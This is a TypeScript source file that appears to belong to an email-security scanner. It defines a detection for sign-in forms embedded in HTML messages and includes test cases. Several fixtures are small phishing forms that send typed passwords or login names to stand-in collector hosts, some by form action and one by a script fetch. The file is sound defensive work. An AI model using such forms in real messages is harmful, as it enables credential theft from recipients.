import { fragmentText } from '../html-text.ts';
import { readAttribute } from '../html-links.ts';
import type { DetectionHit, MailDetection } from '../mail-detection.ts';
import { fold } from '../mail-features.ts';
import { passwordWords, signInWords } from '../lure-lexicon.ts';

// What makes a form a credential form: it asks for a secret (a password field, or a field named or labelled as a
// password, passcode or PIN), or for a login identifier next to a sign-in button; and what is typed goes somewhere
// (an action URL or a script that submits). A search box or a newsletter's subscribe box asks for neither.
const maxForms = 20;
const maxFormChars = 20_000;

interface FormFacts {
  action: string | null;
  secret: string | null;
  identifier: string | null;
  signInButton: string | null;
}

function fieldDescription(tag: string): string {
  return fold(['name', 'id', 'placeholder', 'aria-label', 'autocomplete', 'title'].map((a) => readAttribute(tag, a) ?? '').join(' '));
}

function inspectForm(formTag: string, inner: string): FormFacts {
  const action = readAttribute(formTag, 'action');
  let secret: string | null = null;
  let identifier: string | null = null;
  let signInButton: string | null = null;
  for (const m of inner.matchAll(/<(input|button|select|textarea)\b[^>]{0,2000}>/gi)) {
    const tag = m[0];
    const type = (readAttribute(tag, 'type') ?? (m[1]!.toLowerCase() === 'button' ? 'submit' : 'text')).toLowerCase();
    if (type === 'hidden') continue;
    const described = fieldDescription(tag);
    if (type === 'password') secret ??= 'a password field';
    else if (type === 'submit' || type === 'button' || type === 'image') {
      const label = fold(`${readAttribute(tag, 'value') ?? ''} ${readAttribute(tag, 'alt') ?? ''}`);
      if (signInWords.test(label)) signInButton ??= label.trim().slice(0, 40);
    } else if (passwordWords.test(described)) secret ??= `a field named ${described.trim().slice(0, 40)}`;
    else if (/\b(user ?name|user ?id|login|log ?in|e-?mail|account|userid|benutzer\w*|gebruikersnaam|identifiant|usuario|utilizador|utente|cpf)\b/.test(described) || type === 'email')
      identifier ??= described.trim().slice(0, 40) || type;
  }
  // visible words inside the form: labels ("Password:") and a text button
  const text = fold(fragmentText(inner, 2000));
  if (!secret && passwordWords.test(text) && /<input\b/i.test(inner)) secret = `a field labelled ${passwordWords.exec(text)?.[0] ?? 'password'}`;
  if (!signInButton) signInButton = signInWords.exec(text)?.[0] ?? null;
  return { action, secret, identifier, signInButton };
}

export const detection: MailDetection = {
  id: 'content.html-credential-form',
  title: 'A sign-in form inside the message',
  description:
    'The HTML body embeds a form that asks for a password, passcode or PIN, or for a login identifier next to a sign-in button, and sends what is typed somewhere (an action URL or a submitting script): credentials typed into the message go straight to the attacker. Search and subscribe boxes are not credential forms.',
  category: 'content',
  maxWeight: 35,
  references: ['https://attack.mitre.org/techniques/T1566/001/', 'https://www.microsoft.com/en-us/security/blog/topic/phishing/'],
  falsePositives: ['A service that really embeds its own sign-in form in mail (rare: mail clients block form posts).'],
  gaps: ['Forms built by script at open time (Outlook does not run scripts).', 'Credential forms in HTML attachments are judged by attachment detections, not here.'],
  evaluate(m) {
    const html = m.mail.html;
    if (!html || !/<form\b/i.test(html)) return [];
    const lower = html.toLowerCase();
    const scriptSubmit = /<script\b[\s\S]{0,20000}?(\.submit\(|fetch\(|xmlhttprequest|\$\.(post|ajax)\(|sendbeacon)/.test(lower.slice(0, 300_000));
    const hits: DetectionHit[] = [];
    let pos = 0;
    for (let n = 0; n < maxForms; n++) {
      const start = lower.indexOf('<form', pos);
      if (start === -1) break;
      const tagEnd = lower.indexOf('>', start);
      if (tagEnd === -1) break;
      const close = lower.indexOf('</form', tagEnd);
      const end = close === -1 ? Math.min(html.length, tagEnd + maxFormChars) : Math.min(close, tagEnd + maxFormChars);
      pos = end;
      const formTag = html.slice(start, tagEnd + 1);
      const f = inspectForm(formTag, html.slice(tagEnd + 1, end));
      const submits = !!f.action || /\bonsubmit\s*=/i.test(formTag) || scriptSubmit;
      if (!submits) continue;
      const askLogin = !f.secret && f.identifier && f.signInButton;
      if (!f.secret && !askLogin) continue;
      const action = f.action?.trim() ?? null;
      const target = action ? m.links.find((l) => l.source === 'html-form' && l.href.trim() === action) : undefined;
      const where = target ? `posting to ${target.host}` : action ? `posting to ${action.slice(0, 80)}` : 'submitted by a script';
      hits.push({
        weight: f.secret ? 35 : 25,
        evidence: f.secret ? `HTML form with ${f.secret}, ${where}` : `HTML form asking for a login identifier (${f.identifier}) with a sign-in button ('${f.signInButton}'), ${where}`,
        plain: f.secret ? 'it contains a form asking for your password' : `it contains a sign-in form that sends what you type to ${target?.registrable ?? 'another site'}`,
        links: target ? [target.url] : [],
      });
      break;
    }
    return hits;
  },
  cases: [
    { name: 'password form', kind: 'true-positive', fires: true, mail: { html: '<form action="https://collect.example.top/p.php"><input name=u><input type="password" name=p></form>' } },
    {
      name: 'German password field by name and a sign-in button',
      kind: 'true-positive',
      fires: true,
      mail: { html: '<form method="post" action="https://konto-pruefung.example.net/a"><input name="benutzer"><input type="text" name="passwort"><input type="submit" value="Anmelden"></form>' },
    },
    {
      name: 'e-mail address and a sign-in button, submitted by script',
      kind: 'true-positive',
      fires: true,
      mail: { html: '<form onsubmit="go()"><input type="email" name="login"><button>Sign in</button></form><script>function go(){fetch("https://x.example.top/c")}</script>' },
    },
    { name: 'no form', kind: 'true-negative', fires: false, mail: { html: '<p>Hello</p>' } },
    { name: 'the word form in text', kind: 'near-miss', fires: false, mail: { html: '<p>Please fill in the form at the front desk; the &lt;form&gt; tag was escaped.</p>' } },
    {
      name: "a newsletter's search box posting to its site",
      kind: 'near-miss',
      fires: false,
      mail: { html: '<form method="post" action="https://www.example-news.com/cgi-bin/search"><input type="hidden" name="config" value="x"><input type="text" name="words"><input type="submit" value="go"></form>' },
    },
    {
      name: 'a subscribe box asking for an e-mail address',
      kind: 'near-miss',
      fires: false,
      mail: { html: '<form action="https://news.example.com/subscribe"><input type="email" name="email" placeholder="Your e-mail"><input type="submit" value="Subscribe"></form>' },
    },
    {
      name: 'a password field in a form that goes nowhere',
      kind: 'near-miss',
      fires: false,
      mail: { html: '<form><label>Password</label><input type="password"></form>' },
    },
  ],
};
